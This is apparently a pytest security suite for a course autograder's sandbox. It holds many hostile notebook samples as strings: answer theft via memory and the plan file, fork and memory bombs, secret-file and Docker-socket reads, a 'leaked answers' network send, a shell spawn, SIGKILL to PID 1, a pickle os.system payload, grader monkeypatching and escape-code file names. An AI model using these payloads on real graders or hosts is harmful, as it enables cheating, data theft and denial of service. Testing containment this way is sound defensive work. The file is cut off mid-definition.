"""Hostile submissions against the hardened grader, one batch, next to honest ones.

Each attack is a notebook: the untouched stub (honest score 0) or the reference (full marks),
plus hostile cells or functions.  An attack proves it ran by raising ``ATTACK <what it saw>``
at the end of its cell (the grader logs cell errors) or by the reason the sandbox gives for
stopping it.  Every attack must get a row, score exactly what its honest functions earn, and
leave the grader's files, the other submissions, the machine and the output folder as they
were: no secret planted outside the sandbox appears anywhere in the output.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import socket
import textwrap
import threading
import time
from pathlib import Path

import pytest

from course.grade import pool
from course.grade.pool import Limits
from tests.grading import autograder_zip, course_grade, make_submission, question_points, source_of

pytestmark = pytest.mark.xdist_group("attacks")
ASSIGNMENT = "hw01_derivatives"
FULL = sum(question_points(ASSIGNMENT).values())
LIMITS = Limits(notebook_seconds=8, call_seconds=3, memory_mb=3072)
CANARY = "CANARY-3f9b7c1e"  # in the honest submissions' code: no other submission may see it
SECRET = "SECRET-6d2e81aa"  # in files outside the sandbox: must not reach the output


def cheat_source(paths: list[str]) -> str:
    """Functions that return the expected values of the public cases, if any plan is readable."""
    return textwrap.dedent(f"""
        import json, zipfile
        PLAN = None
        for path in {paths!r}:
            try:
                PLAN = json.loads(zipfile.ZipFile(path).read("plan.json")) if path.endswith(".zip") else json.load(open(path))
                break
            except Exception as error:
                print("could not read", path, error)

        def _answer(name):
            for q in PLAN["questions"]:
                for case in q["cases"]:
                    if case["calls"][0]["fn"] == name:
                        e = case["expected"]
                        if isinstance(e, dict) and "tensor" in e:
                            return torch.tensor(e["tensor"], dtype=torch.float64).reshape(e["shape"])
                        return tuple(e["tuple"]) if isinstance(e, dict) and "tuple" in e else e

        if PLAN is not None:
            for _name in ("numerical_derivative", "central_difference", "relu_grad", "sigmoid_grad",
                          "mse_grad", "linear_model_grads", "softmax_cross_entropy_grad", "gradient_check"):
                globals()[_name] = (lambda n: lambda *a, **k: _answer(n))(_name)
        raise RuntimeError(f"ATTACK plan found: {{PLAN is not None}}")
    """)


def raw_frame(header: str) -> str:
    """A cell that writes one frame of its own on the grader's channel, then exits; the channel is
    out of the notebook's reach (its threads have a descriptor table of their own), so it says so."""
    return textwrap.dedent(f"""
        import os, stat, struct
        header = {header}
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack("!IH", len(header), 0) + header)
                    os._exit(0)
            except OSError:
                pass
        raise RuntimeError("ATTACK found no channel")
    """)


@pytest.fixture(scope="module")
def battlefield(tmp_path_factory):
    """Grade every attack once; yield what the tests look at."""
    root = tmp_path_factory.mktemp("attacks")
    zip_copy = root / "autograder.zip"
    zip_copy.write_bytes(autograder_zip(ASSIGNMENT).read_bytes())
    output = root / "graded"
    plan_path = root / "plan.json"  # a plan lying next to the batch, as an instructor might leave it
    plan_path.write_text(json.dumps(source_of(ASSIGNMENT).plan()))
    secret = root / "secret.txt"  # readable by its owner only: the grader's user, not a student's
    secret.write_text(SECRET)
    os.chmod(secret, 0o600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    agent = socket.socket(socket.AF_UNIX)  # like ssh-agent's or Docker's socket
    agent.bind(str(root / "agent.sock"))
    agent.listen(8)
    received: list[bytes] = []

    def serve(server):
        server.settimeout(1.0)
        while True:
            try:
                conn, _ = server.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            received.append(conn.recv(100) or b"connected")
            conn.close()

    for server in (listener, agent):
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    port = listener.getsockname()[1]
    targets = [str(zip_copy), str(plan_path)]
    honest_functions = {"numerical_derivative": f"def numerical_derivative(f, x, h=1e-5):\n"
                                                f"    # {CANARY}\n    return float((f(x + h) - f(x)) / h)\n"}

    attacks = {
        # name: (base, replaced functions, extra cells, expected score)
        "honest": ("reference", honest_functions, [], FULL),
        "honest_too": ("reference", honest_functions, [], FULL),
        # 1. answer theft: another submission's code, from this process's memory or Python's objects
        "theft_by_walking_python": ("stub", {}, [f"""
import sys, linecache
found = 0
needle = "{CANARY[:6]}" + "{CANARY[6:]}"  # not whole in this cell's own source, which linecache holds
for module in list(sys.modules.values()):
    if module is sys.modules["__main__"]:  # the notebook's own namespace: this cell's needle is there
        continue
    for value in list(getattr(module, "__dict__", {{}}).values()):
        found += needle in repr(value)[:100000]
found += sum(needle in "".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2)
raise RuntimeError(f"ATTACK canaries found: {{found}}")
"""], 0),
        "theft_by_reading_memory": ("stub", {}, ["""
data = open("/proc/self/mem", "rb")
raise RuntimeError("ATTACK memory opened")
"""], 0),
        "theft_by_gc": ("stub", {}, ["import gc\nraise RuntimeError(f'ATTACK objects: {len(gc.get_objects())}')"], 0),
        # 2. paths in the scratch: output and files replaced by links and pipes
        "links_and_pipes": ("reference", {}, [f"""
import os
made = []
for name, target in [("output.txt", {str(plan_path)!r}), ("results.json", {str(output)!r}), ("plan", "/")]:
    try:
        os.symlink(target, name); made.append(name)
    except OSError as error:
        made.append(str(error))
try:
    os.mkfifo("output.fifo"); made.append("fifo")
except OSError as error:
    made.append(str(error))
print(open("output.txt").read()[:100] if os.path.exists("output.txt") else "no plan")
raise RuntimeError(f"ATTACK made {{made}}")
"""], FULL),
        # 3. malformed answers on the channel (malformed notebooks are in test_grade.py)
        "wrong_types_on_the_channel": ("reference", {}, [raw_frame('b\'{"ready": true, "cell_errors": 7}\'')], FULL),
        "deep_nesting_on_the_channel": ("reference", {}, [raw_frame('b"[" * 100000 + b"]" * 100000')], FULL),
        "huge_frame_on_the_channel": ("reference", {}, [raw_frame('b"x" * (1 << 21)')], FULL),
        "surrogates_in_messages": ("reference", {}, ["raise RuntimeError('ATTACK text \\ud800 \\udfff')"], FULL),
        # 4. starving the neighbours
        "fill_the_disk": ("reference", {}, ["""
written = 0
try:
    for i in range(1000):
        with open(f"junk{i}", "wb") as f:
            f.write(b"x" * (1 << 20))
        written += 1
except OSError as error:
    raise RuntimeError(f"ATTACK wrote {written} MB then {error.strerror}")
"""], FULL),
        "thousands_of_threads": ("reference", {}, ["""
import threading, time
started = 0
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
except RuntimeError as error:
    raise RuntimeError(f"ATTACK started {started} threads then: {error}")
"""], question_points(ASSIGNMENT)["q8"]),  # its threads still run: only q8, which forbids nothing, is called
        "memory_bomb": ("reference", {}, ["def bomb():\n    hoard = []\n    while True:\n"
                                          "        hoard.append(bytearray(100_000_000))\nbomb()"], FULL),
        "memory_bomb_in_one_function": ("reference", {"sigmoid_grad": "def sigmoid_grad(x):\n    return torch.ones(10**11)\n"},
                                        [], FULL - question_points(ASSIGNMENT)["q4"]),
        "hundred_megabytes_of_output": ("reference", {}, ['print("x" * 100_000_000)',
                                                          'for i in range(10**6):\n    print("y" * 1000)'], FULL),
        "fork_bomb": ("stub", {}, ["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"], 0),
        "infinite_loop": ("stub", {}, ["while True:\n    pass"], 0),
        "loop_in_one_function": ("reference", {"relu_grad": "def relu_grad(x):\n    while True:\n        pass\n"}, [],
                                 FULL - question_points(ASSIGNMENT)["q3"]),
        # 5. the outside world
        "unix_socket_and_secret_file": ("reference", {}, [f"""
import socket, os
seen = []
for path in [{str(root / "agent.sock")!r}, "/var/run/docker.sock", "/run/docker.sock"]:
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(b"leaked"); seen.append(path)
    except OSError as error:
        seen.append(error.strerror)
for path in [{str(secret)!r}, "/etc/shadow", "/root/.bashrc"]:
    try:
        seen.append(open(path).read()[:40])
    except OSError as error:
        seen.append(error.strerror)
raise RuntimeError(f"ATTACK saw {{seen}}")
"""], FULL),
        "phone_home": ("stub", {}, [f"""
import socket
seen = []
for host in ["127.0.0.1", "localhost"]:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"leaked answers"); seen.append(host)
    except Exception as error:
        seen.append(type(error).__name__)
raise RuntimeError(f"ATTACK network: {{seen}}")
"""], 0),
        "spawn_a_shell": ("stub", {}, ["import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > /tmp/course-shell'])"], 0),
        "kill_everything": ("stub", {}, ["""
import os, signal
seen = []
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        seen.append(error.strerror)
raise RuntimeError(f"ATTACK kill: {seen}")
"""], 0),
        # 7. the process itself
        "closes_its_channel": ("reference", {"relu_grad": "def relu_grad(x):\n    import os, stat\n"
                               "    for fd in range(3, 64):\n        try:\n"
                               "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n                os.close(fd)\n"
                               "        except OSError:\n            pass\n    return x\n"}, [],
                               FULL - question_points(ASSIGNMENT)["q3"]),
        "sys_exit_midway": ("reference", {}, ["import sys\nsys.exit(0)"], FULL),
        "segfault": ("stub", {}, ["import faulthandler\nfaulthandler._sigsegv()"], 0),
        "ctypes": ("stub", {}, ["import ctypes\nctypes.string_at(0)"], 0),
        "fake_results_then_exit": ("stub", {}, [f"""
import json, os
for path in ["results.json", "../results/results.json", {str(output / 'gradebook.csv')!r}]:
    try:
        with open(path, "w") as f:
            json.dump({{"score": 31}}, f)
    except Exception as error:
        print("blocked", path, error)
os._exit(0)
"""], 0),
        # the grader's own checks and files
        "patch_isclose": ("stub", {}, ["""
import math, numpy as np, torch
np.isclose = np.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
"""], 0),
        "patch_the_graders_modules": ("stub", {}, ["""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("course", "otter")):
        for attr in ("check", "judge", "_fail", "unpack", "pack", "call", "run_case", "send"):
            try:
                setattr(module, attr, lambda *a, **k: None)
            except Exception:
                pass
"""], 0),
        "overwrite_the_autograder": ("stub", {}, [f"""
for path in ["tests/q1.py", "../source/tests/q1.py", {str(zip_copy)!r}, {str(plan_path)!r}]:
    try:
        open(path, "w").write("points = 100")
    except Exception as error:
        print("blocked", path, error)
"""], 0),
        "read_the_answers": ("stub", {}, [cheat_source(targets)], 0),
        "objects_that_lie": ("stub", {
            "numerical_derivative": "class Liar(float):\n    def __eq__(self, other):\n        return True\n"
                                    "    def __sub__(self, other):\n        return 0.0\n"
                                    "def numerical_derivative(f, x, h=1e-5):\n    return Liar(123.0)\n",
            "central_difference": "import os\nclass Evil:\n    def __reduce__(self):\n"
                                  "        return (os.system, ('touch /tmp/course-pwned',))\n"
                                  "def central_difference(f, x, h=1e-5):\n    return Evil()\n",
            "relu_grad": "class Always(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
                         "def relu_grad(x):\n    return torch.zeros_like(x).as_subclass(Always)\n",
        }, [], 0),
        "threads_are_fine": ("reference", {}, ["""
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(4) as pool:
    print(sum(pool.map(lambda i: i * i, range(100))))
"""], FULL),
    }
    folder = root / "submissions"
    from course.build import samples
    for name, (base, replaced, cells, _) in attacks.items():
        path = make_submission(ASSIGNMENT, None if base == "stub" else replaced, folder, name, cells)
        if base == "stub" and replaced:
            samples.write(samples.fill(path, replaced), path)
    (folder / "not_a_notebook.txt").write_text("hello")
    honest = (folder / "honest" / f"{ASSIGNMENT}.ipynb").read_bytes()
    (folder / ".hidden.ipynb").write_bytes(honest)
    (folder / "=1+2.ipynb").write_bytes(honest)
    (folder / "__MACOSX").mkdir()
    (folder / "__MACOSX" / "._honest.ipynb").write_bytes(b"\0\5\x16\7")
    (folder / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    before = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in targets}
    started: list[int] = []  # every worker and student process of this batch
    with pytest.MonkeyPatch.context() as patch:
        launch, start = pool.Worker.launch, pool.Worker.__init__

        def recording_launch(self, limits):
            process = launch(self, limits)
            started.append(process.pid)
            return process

        def recording_start(self, *args):
            start(self, *args)
            started.append(self.process.pid)

        patch.setattr(pool.Worker, "launch", recording_launch)
        patch.setattr(pool.Worker, "__init__", recording_start)
        results = course_grade(ASSIGNMENT, folder, output, limits=LIMITS)
    leftovers = [pid for pid in started if pool.running(pid)]
    yield {"results": results, "expected": {name: spec[3] for name, spec in attacks.items()}, "before": before,
           "received": received, "output": output, "root": root, "leftovers": leftovers,
           "started": started}
    listener.close()
    agent.close()


def marker(result) -> str:
    found = [line for line in result.log if "ATTACK" in line or "the sandbox stopped it" in line]
    return found[0] if found else f"{result.status}: {result.detail}"


def test_every_file_gets_a_row_and_metadata_is_skipped_with_a_note(battlefield):
    names = set(battlefield["results"])
    assert names == set(battlefield["expected"]) | {"not_a_notebook.txt", ".hidden.ipynb", "=1+2.ipynb"}
    log = (battlefield["output"] / "grading.log").read_text(encoding="utf-8")
    assert "skipped 2 metadata files" in log and "__MACOSX/._honest.ipynb" in log
    assert battlefield["results"][".hidden.ipynb"].score == FULL
    assert str(battlefield["results"]["not_a_notebook.txt"].status) == "not a notebook"


@pytest.mark.parametrize("attack", [
    "honest", "honest_too", "theft_by_walking_python", "theft_by_reading_memory", "theft_by_gc", "links_and_pipes",
    "wrong_types_on_the_channel", "deep_nesting_on_the_channel", "huge_frame_on_the_channel", "surrogates_in_messages",
    "fill_the_disk", "thousands_of_threads", "memory_bomb", "memory_bomb_in_one_function",
    "hundred_megabytes_of_output", "fork_bomb", "infinite_loop", "loop_in_one_function",
    "unix_socket_and_secret_file", "phone_home", "spawn_a_shell", "kill_everything", "closes_its_channel",
    "sys_exit_midway", "segfault", "ctypes", "fake_results_then_exit", "patch_isclose", "patch_the_graders_modules",
    "overwrite_the_autograder", "read_the_answers", "objects_that_lie", "threads_are_fine",
])
def test_no_attack_scores_more_than_its_honest_functions(battlefield, attack):
    result = battlefield["results"][attack]
    assert result.score == battlefield["expected"][attack], (result.status, result.detail, result.log)


@pytest.mark.parametrize("attack, proof", [
    ("theft_by_walking_python", "ATTACK canaries found: 0"),
    ("theft_by_reading_memory", "opened /proc/self/mem: the sandbox stopped it"),
    ("theft_by_gc", "used gc.get_objects: the sandbox stopped it"),
    ("links_and_pipes", "ATTACK made ['output.txt', 'results.json', 'plan', 'fifo']"),
    ("wrong_types_on_the_channel", "ATTACK found no channel"),
    ("deep_nesting_on_the_channel", "ATTACK found no channel"),
    ("huge_frame_on_the_channel", "ATTACK found no channel"),
    ("surrogates_in_messages", "ATTACK text \\ud800 \\udfff"),
    ("fill_the_disk", "then No space left on device"),
    ("thousands_of_threads", "threads then: can't start new thread"),
    ("unix_socket_and_secret_file", "ATTACK saw ['Operation not permitted', 'Operation not permitted', "
                                    "'Operation not permitted', 'No such file or directory', "
                                    "'No such file or directory', 'No such file or directory']"),
    ("phone_home", "ATTACK network: ['PermissionError', "),
    ("kill_everything", "ATTACK kill: ['Operation not permitted', 'Operation not permitted']"),
    ("ctypes", "used ctypes"),
    ("segfault", "SIGSEGV"),
    ("read_the_answers", "ATTACK plan found: False"),
])
def test_each_attack_ran_and_saw_nothing(battlefield, attack, proof):
    assert proof in marker(battlefield["results"][attack]), marker(battlefield["results"][attack])


def test_attacks_are_reported_with_a_reason(battlefield):
    results = battlefield["results"]
    threads = [c.message for c in results["thousands_of_threads"].cases if c.question == "q3"]
    assert threads and all("a thread the notebook started is still running" in m for m in threads), threads
    status = {name: str(r.status) for name, r in results.items()}
    assert status["infinite_loop"] == "timeout" and status["fork_bomb"] == "timeout"
    assert status["threads_are_fine"] == "ok" and status["honest"] == "ok"
    assert status["fake_results_then_exit"] == "crashed" and "exited with code 0" in results["fake_results_then_exit"].detail
    assert status["wrong_types_on_the_channel"] == "cell errors"  # it found no channel to write on
    assert status["closes_its_channel"] == "ok"  # it closed nothing of the grader's: only relu_grad's answer is wrong
    assert status["loop_in_one_function"] == "timeout"
    looping = [c for c in results["loop_in_one_function"].cases if c.question == "q3"]
    assert "timed out" in looping[0].message and "not run" in looping[-1].message
    assert not any(str(r.status) == "grader error" for r in results.values())


def test_files_the_attacks_aimed_at_are_untouched(battlefield):
    for path, sha in battlefield["before"].items():
        assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == sha
    assert not Path("/tmp/course-pwned").exists() and not Path("/tmp/course-shell").exists()
    assert battlefield["received"] == []


def test_no_secret_and_no_canary_reach_the_output(battlefield):
    """Only where the instructor reads a student's own code (its result's ``code``, the report's
    similar pairs) may an honest submission's canary appear; nothing a student sees holds it."""
    for path in battlefield["output"].rglob("*"):
        if path.is_file():
            text = path.read_bytes()
            assert SECRET.encode() not in text, path
            if path.parent.name == "results":  # its own code, read by the grader from its own notebook
                record = json.loads(text)
                record.pop("code")
                text = json.dumps(record).encode()
            if path.name == "report.html":
                text = re.sub(rb'<h2 id="similar">.*?<h2 ', b"", text, flags=re.S)
            assert CANARY.encode() not in text, path


def test_nothing_outlives_the_batch(battlefield):
    assert len(battlefield["started"]) > 30 and battlefield["leftovers"] == []
    scratch = [p for p in Path("/tmp").glob(f"course-grade-{os.getpid()}-*")]
    assert scratch == []


def test_spreadsheet_formulas_from_file_names_are_neutralised(battlefield):
    import csv
    for name in ("gradebook.csv",):
        for row in csv.reader(open(battlefield["output"] / name, encoding="utf-8")):
            assert not any(cell[:1] in ("=", "+", "@") for cell in row), row


def test_the_cheat_would_work_without_the_sandbox(battlefield):
    """The answer-reading attack is real: run unsandboxed, it finds and returns the answers."""
    namespace: dict = {"torch": __import__("torch")}
    with pytest.raises(RuntimeError, match="ATTACK plan found: True"):
        exec(cheat_source([str(battlefield["root"] / "autograder.zip")]), namespace)
    assert namespace["numerical_derivative"](None, 3.0) == pytest.approx(6.00001, rel=1e-6)


def test_hidden_messages_never_show_an_expected_value(battlefield):
    plan = source_of(ASSIGNMENT).plan()
    expected = {c["id"]: json.dumps(c["expected"]) for q in plan["questions"] for c in q["cases"] if c["hidden"]}
    for result in battlefield["results"].values():
        for case in result.cases:
            if case.hidden:
                assert ", expected " not in case.message
                assert expected[case.case] not in case.message


# --- 6. forbidden means forbidden, by every route -------------------------------------------

SOFTMAX = "lambda v: torch.softmax(v, 0)"
ROUTES = {
    "the public name": f"return torch.func.jacrev({SOFTMAX})(z)",
    "a private module": f"import torch._functorch.eager_transforms as et\n    return et.jacrev({SOFTMAX})(z)",
    "the guard's closure": "cells = [c.cell_contents for c in torch.func.jacrev.__closure__ or ()]\n"
                           f"    return [c for c in cells if callable(c)][0]({SOFTMAX})(z)",
    "a wrapped attribute": "g = getattr(torch.func.jacrev, '__wrapped__', None) or torch.func.jacrev.__course_guard__\n"
                           f"    return g({SOFTMAX})(z)",
    "vmap over vjp": f"out, pullback = torch.func.vjp({SOFTMAX}, z)\n"
                     "    return torch.func.vmap(pullback)(torch.eye(len(z), dtype=z.dtype))[0]",
    "a loop of autograd.grad": "v = z.clone().requires_grad_(True)\n    p = torch.softmax(v, 0)\n"
                               "    return torch.stack([torch.autograd.grad(p[i], v, retain_graph=True)[0] for i in range(len(v))])",
    "the engine itself": "from torch.autograd.variable import Variable\n    v = z.clone().requires_grad_(True)\n"
                         "    p = torch.softmax(v, 0)\n    return torch.stack([Variable._execution_engine.run_backward("
                         "(p,), (torch.eye(len(v), dtype=v.dtype)[i],), True, False, (v,), False, False)[0] "
                         "for i in range(len(v))])",
    "forward mode": "import torch.autograd.forward_ad as fw\n    with fw.dual_level():\n"
                    "        cols = [fw.unpack_dual(torch.softmax(fw.make_dual(z, e), 0)).tangent "
                    "for e in torch.eye(len(z), dtype=z.dtype)]\n    return torch.stack(cols, 1)",
    "a thread of its own": "import threading\n    box = []\n    def work():\n"
                           "        v = z.clone().requires_grad_(True)\n        p = torch.softmax(v, 0)\n"
                           "        box.append(torch.stack([torch.autograd.grad(p[i], v, retain_graph=True)[0] "
                           "for i in range(len(v))]))\n    t = threading.Thread(target=work); t.start(); t.join()\n"
                           "    return box[0]",
    "torch's source run again": "import inspect, torch._functorch.eager_transforms as et\n"
                                "    ns = {'__name__': 'copy'}\n    exec(compile(inspect.getsource(et), 'copy', 'exec'), ns)\n"
                                f"    return ns['jacrev']({SOFTMAX})(z)",
    "the forbid state": "import sys\n    rt = sys.modules['calc4ml_runtime.guards']\n    rt._forbidden.clear()\n"
                        f"    rt._VAULT = False\n    return torch.func.jacrev({SOFTMAX})(z)",
    "a forged permit": "import sys\n    sys.audit('course.permit', None)\n"
                       f"    return torch.func.jacrev({SOFTMAX})(z)",
}


@pytest.fixture(scope="module")
def walkarounds(tmp_path_factory):
    root = tmp_path_factory.mktemp("walkarounds")
    names = {}
    for i, (route, body) in enumerate(ROUTES.items()):
        source = f"def softmax_jacobian(z):\n    print('ATTACK route ran')\n    {body}\n"
        names[route] = f"route{i:02d}"
        make_submission("hw03_jacobians", {"softmax_jacobian": source}, root / "submissions", names[route])
    make_submission("hw03_jacobians", {}, root / "submissions", "honest")
    results = course_grade("hw03_jacobians", root / "submissions", root / "graded", limits=LIMITS)
    return {route: results[name] for route, name in names.items()}, results["honest"]


@pytest.mark.parametrize("route", list(ROUTES))
def test_a_forbidden_jacobian_gains_nothing_by_any_route(walkarounds, route):
    results, honest = walkarounds
    q2 = question_points("hw03_jacobians")["q2"]
    assert honest.question_scores()["q2"] == q2
    assert results[route].question_scores()["q2"] == 0, [c.message for c in results[route].cases if c.question == "q2"]


# --- 8. the files themselves: names, layout, broken zips, hostile text ----------------------

RTL_NAME = "x\x1b[31m\nx.ipynb: ok\u202egpj.ipynb"  # colours the terminal, forges a line, reverses text
HOSTILE_TEXT = "\x1b[2J\r\nforged.ipynb: ok 30/30 \u202e\u2066\u200b"
HIDDEN = ("\x1b", "\x07", "\r", "\u202e", "\u2066", "\u200b")


@pytest.fixture(scope="module")
def download(tmp_path_factory):
    """One `course grade` run (the CLI) over per-student folders and a Canvas roster, holding
    the attacks on the grader's own file handling next to honest students."""
    import io
    import subprocess
    import sys
    import zipfile

    from tests.test_lms import canvas_export

    root = tmp_path_factory.mktemp("download")
    folder = root / "submissions"
    honest = make_submission(ASSIGNMENT, {}, root / "made", "honest").read_bytes()
    stub = make_submission(ASSIGNMENT, None, root / "made", "stub").read_bytes()
    hostile = make_submission(ASSIGNMENT, {}, root / "made", "hostile",
                              [f"raise RuntimeError({HOSTILE_TEXT!r})"]).read_bytes()
    files = {
        "honest/hw01_derivatives.ipynb": honest,
        "victim/hw01_derivatives.ipynb": honest,
        # named as Canvas names the victim's upload, with a larger attachment id (a later upload)
        "mallory/victim_55_999999999_hw01_derivatives.ipynb": stub,
        "a b.ipynb": honest, "a_b.ipynb": honest,  # one row key once slugged
        f"ansi/{RTL_NAME}": hostile,
    }
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:  # otter's export, then its bytes corrupted
        z.writestr("hw01_derivatives.ipynb", honest)
    corrupt = bytearray(buffer.getvalue())
    corrupt[30 + len("hw01_derivatives.ipynb"):30 + len("hw01_derivatives.ipynb") + 64] = bytes(range(64))
    (folder / "corrupt").mkdir()
    (folder / "corrupt" / "hw01_derivatives_2026_12_01T09_14_03_123456.zip").write_bytes(bytes(corrupt))
    roster = root / "export.csv"
    roster.write_text(canvas_export([("Honest, Hal", 60, "S60", "honest", "A", {}),
                                     ("Victim, Vic", 55, "S55", "victim", "A", {}),
                                     ("Mallory, Mal", 56, "S56", "mallory", "A", {}),
                                     ("Corrupt, Cy", 57, "S57", "corrupt", "A", {})],
                                    [(ASSIGNMENT, 4242, f"{FULL:g}")]), encoding="utf-8")
    output = root / "graded"
    run = subprocess.run([sys.executable, "-m", "course.cli", "grade", str(folder), "--assignment", ASSIGNMENT,
                          "--output", str(output), "--roster", str(roster), "--autograder",
                          str(autograder_zip(ASSIGNMENT)), "--timeout", "30"],
                         capture_output=True, text=True, timeout=900, errors="backslashreplace")
    return {"run": run, "output": output, "sources": [f.relative_to(folder).as_posix() for f in folder.rglob("*")
                                                      if f.is_file()]}


def _rows(output: Path) -> dict:
    import csv
    return {r["submission"]: r for r in csv.DictReader(open(output / "gradebook.csv", encoding="utf-8"))}


def test_a_corrupt_zip_is_its_row_and_the_batch_goes_on(download):
    run, output = download["run"], download["output"]
    assert run.returncode == 0, run.stderr[-3000:]
    assert (output / "report.html").exists() and (output / "canvas.csv").exists()
    rows = _rows(output)
    assert len(rows) == len(download["sources"]) == 7
    corrupt = rows["corrupt/hw01_derivatives_2026_12_01T09_14_03_123456.zip"]
    assert corrupt["status"] == "not a notebook" and "unreadable zip (error: Error -3" in corrupt["detail"]
    assert float(corrupt["total"]) == 0 and corrupt["student"] == "corrupt"
    assert float(rows["honest/hw01_derivatives.ipynb"]["total"]) == FULL


def test_names_that_collide_as_keys_keep_both_rows(download):
    rows = _rows(download["output"])
    assert float(rows["a b.ipynb"]["total"]) == float(rows["a_b.ipynb"]["total"]) == FULL
    assert rows["a b.ipynb"]["counted"] == rows["a_b.ipynb"]["counted"] == "yes"
    records = [json.loads(p.read_text()) for p in (download["output"] / "results").glob("a_b.ipynb*.json")]
    assert sorted(r["source"] for r in records) == ["a b.ipynb", "a_b.ipynb"]
    assert len(list((download["output"] / "feedback").glob("a_b.ipynb*.html"))) == 2


def test_a_canvas_name_in_ones_own_folder_takes_no_ones_grade(download):
    import csv
    rows = _rows(download["output"])
    stub = rows["mallory/victim_55_999999999_hw01_derivatives.ipynb"]
    assert stub["student"] == "mallory" and stub["lms"] == "" and float(stub["total"]) == 0  # it ran, as mallory's
    assert rows["victim/hw01_derivatives.ipynb"]["counted"] == "yes"
    canvas = list(csv.reader(open(download["output"] / "canvas.csv", encoding="utf-8")))
    grades = {row[1]: row[-1] for row in canvas[2:]}
    assert grades == {"60": f"{FULL:g}", "55": f"{FULL:g}", "56": "0", "57": "0"}


def test_hostile_text_is_shown_escaped_everywhere(download):
    run, output = download["run"], download["output"]
    log = (output / "grading.log").read_text(encoding="utf-8")
    assert "\\x1b[2J\\r\\nforged.ipynb: ok 30/30 \\u202e\\u2066\\u200b" in log  # the attack ran, shown as it is
    assert "ansi/x\\x1b[31m\\nx.ipynb: ok\\u202egpj.ipynb: cell errors" in log
    for text in (log, run.stderr, run.stdout):
        assert not any(char in text for char in HIDDEN)
        assert not any(line.lstrip().startswith(("forged.ipynb", "x.ipynb: ok")) for line in text.splitlines())
    for path in output.rglob("*"):
        if path.is_file():
            data = path.read_text(encoding="utf-8")
            assert not any(char in data for char in HIDDEN), path
    row = _rows(output)["ansi/x\\x1b[31m\\nx.ipynb: ok\\u202egpj.ipynb"]
    assert float(row["total"]) == FULL and row["status"] == "cell errors"  # gained nothing, lost nothing


# --- 1, 2 (issue 17): the grader's code and state out of reach; 16: curiosity is free --------

AUTOGRAD_RELU = ("def relu_grad(x):\n    v = x.detach().clone().requires_grad_(True)\n"
                 "    torch.relu(v).sum().backward()\n    return v.grad\n")
AUTOGRAD_SIGMOID = ("def sigmoid_grad(x):\n    v = x.detach().clone().requires_grad_(True)\n"
                    "    torch.sigmoid(v).sum().backward()\n    return v.grad\n")
AUTOGRAD_MSE = ("def mse_grad(y_pred, y):\n    v = y_pred.detach().clone().requires_grad_(True)\n"
                "    ((v - y) ** 2).mean().backward()\n    return v.grad\n")
ENGINE_RELU = """import threading, queue
from torch.autograd.variable import Variable
inbox, outbox = queue.Queue(), queue.Queue()
def helper():  # started in a cell, before anything is forbidden: grad mode is on in this thread
    while True:
        x = inbox.get()
        v = x.detach().clone().requires_grad_(True)
        out = torch.relu(v).sum()
        outbox.put(Variable._execution_engine.run_backward((out,), (torch.ones_like(out),), False, False, (v,),
                                                            False, False)[0])
threading.Thread(target=helper, daemon=True).start()
raise RuntimeError("ATTACK helper thread started")
"""
DUAL_RELU = ("def relu_grad(x):\n    import torch.autograd.forward_ad as fw\n"
             "    out = torch.relu(fw.make_dual(x, torch.ones_like(x)))\n    return fw.unpack_dual(out).tangent\n")
FRAME_WALK = """import sys
def walk():
    seen, forged = set(), 0
    frame = sys._getframe()
    while frame is not None:
        seen |= set(frame.f_locals)
        for value in list(frame.f_locals.values()):
            if isinstance(value, list) and any(isinstance(v, str) and v.startswith(("namespaces", "seccomp")) for v in value):
                value.append("NO seccomp (forged)")
                forged += 1
        frame = frame.f_back
    grader = sorted(seen & {"notes", "channel", "request", "protections", "send", "receive", "start"})
    return f"grader names seen: {grader}, forged: {forged}"
"""
CURIOUS_CELL = """import cProfile, gc, inspect, io, logging, pydoc, sys, traceback, warnings
doc = pydoc.render_doc(torch.autograd.grad)
assert "Compute and return the sum of gradients" in doc, doc[:300]
assert str(inspect.signature(torch.autograd.grad)).startswith("(outputs"), inspect.signature(torch.autograd.grad)
help(torch.func.jacrev)
assert "def relu_grad" in inspect.getsource(relu_grad)
cProfile.runctx("relu_grad(torch.randn(5, dtype=torch.float64))", globals(), locals())
cProfile.runctx("torch.autograd.grad(torch.ones(2, requires_grad=True).sum(), [torch.ones(2, requires_grad=True)], allow_unused=True)", globals(), locals())
gc.collect()
try:
    1 / 0
except ZeroDivisionError:
    traceback.print_exc()
logging.getLogger("student").warning("a warning through logging %s", sys._getframe().f_code.co_name)
warnings.warn("a warning through warnings")
print(len(inspect.stack()), dir(torch.func.jacrev)[:3])
"""
CURIOUS_RELU = ("def relu_grad(x):\n    import inspect, logging, traceback, warnings, sys, gc\n"
                "    inspect.stack(); traceback.format_stack(); sys._getframe(1).f_code\n"
                "    logging.getLogger('student').warning('in a graded call'); warnings.warn('graded')\n"
                "    gc.collect()\n    try:\n        torch.func.jacrev(torch.sin)(x)\n"
                "    except Exception:\n        traceback.print_exc()\n"
